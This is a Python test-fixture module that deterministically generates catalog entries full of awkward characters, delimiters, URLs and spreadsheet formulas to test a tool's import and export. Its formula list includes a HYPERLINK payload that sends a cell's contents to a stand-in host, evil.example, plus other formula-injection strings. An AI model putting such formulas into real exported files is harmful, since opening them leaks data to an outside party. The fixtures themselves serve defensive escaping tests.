"""Generated entries that exercise every corner an import or export can trip on.

Unicode in many scripts, commas, quotes, new lines, tabs, ``;``, ``|`` and
backslashes inside list items, spreadsheet formulas, URLs with query strings,
link check results and a field htcat does not know. Deterministic for a seed.
"""

from __future__ import annotations

import random
from typing import Any

from htcat.model import LINK_KINDS, ROLES, STATUSES, TYPES

WORDS = [
    "trafficking",
    "labor",
    "supply chains",
    "Ünïcödé café",
    "北京",
    "مرحبا",
    "emoji 🚨",
    'a "quoted" word',
    "comma, inside",
    "semi;colon",
    "pipe|bar",
    "back\\slash",
    "it's",
    "naïve résumé",
    "Ελληνικά",
    "—dash—",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+2",
    "-3 degrees",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice",
    "=1+1",
]


def _text(rng: random.Random, words: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(words))


def _title(rng: random.Random, n: int) -> str:
    if n % 13 == 0:
        return rng.choice(FORMULAS)
    return f"{_text(rng, rng.randint(1, 6))} {n}"


def _summary(rng: random.Random, n: int) -> str:
    if n % 11 == 0:
        return rng.choice(FORMULAS) + "\nsecond line"
    paragraphs = [_text(rng, rng.randint(0, 30)) for _ in range(rng.randint(0, 3))]
    return "\n\n".join(paragraphs) + ("\tafter a tab" if n % 7 == 0 else "")


def _date(rng: random.Random) -> str:
    year = rng.randint(1995, 2026)
    return rng.choice(
        ["", f"{year}", f"{year}-{rng.randint(1, 12):02d}", f"{year}-03-{rng.randint(1, 28):02d}"]
    )


def _link(rng: random.Random, n: int, i: int) -> dict[str, Any]:
    url = rng.choice(
        [
            f"https://example.org/docs/{n}-{i}.pdf",
            f"https://example.org/page/{n}/{i}?q=a,b&x=1;2",
            f"http://Example.COM:8080/w/{n}/{i}#part",
            f"https://example.net/{n}/{i}/caf%C3%A9|pipe",
        ]
    )
    link: dict[str, Any] = {
        "url": url,
        "label": rng.choice(["", _text(rng, 2)]),
        "kind": rng.choice(LINK_KINDS),
    }
    if rng.random() < 0.3:
        link["check"] = {
            "outcome": rng.choice(["ok", "broken", "moved"]),
            "status": 200,
            "checked": "2026-01-02T03:04:05Z",
        }
    return link


def _person(rng: random.Random) -> dict[str, str]:
    return {
        "family": _text(rng, 1),
        "given": _text(rng, 1),
        "role": rng.choice(ROLES),
        "affiliation": rng.choice(["", _text(rng, 3)]),
    }


def varied_entries(count: int, seed: int = 4) -> list[dict[str, Any]]:
    """``count`` valid raw entries with distinct ids and distinct link URLs."""
    rng = random.Random(seed)
    entries = []
    for n in range(count):
        entry: dict[str, Any] = {
            "id": f"entry-{n}",
            "title": _title(rng, n),
            "type": rng.choice(TYPES),
            "summary": _summary(rng, n),
            "date": _date(rng),
            "publisher": rng.choice(
                ["", "HHS Office on Trafficking in Persons", _text(rng, 3), "-dash publisher"]
            ),
            "status": rng.choice(STATUSES),
            "people": [_person(rng) for _ in range(rng.randint(0, 3))],
            "audiences": list(dict.fromkeys(_text(rng, 2) for _ in range(rng.randint(0, 3)))),
            "tags": [_text(rng, 1) for _ in range(rng.randint(0, 4))],
            "links": [_link(rng, n, i) for i in range(rng.randint(0, 3))],
        }
        if n % 5 == 0:
            entry["notes"] = "internal: " + _text(rng, 4)
        if n % 17 == 0:
            entry["source_system"] = f"legacy-{n}"
        entries.append(entry)
    return entries
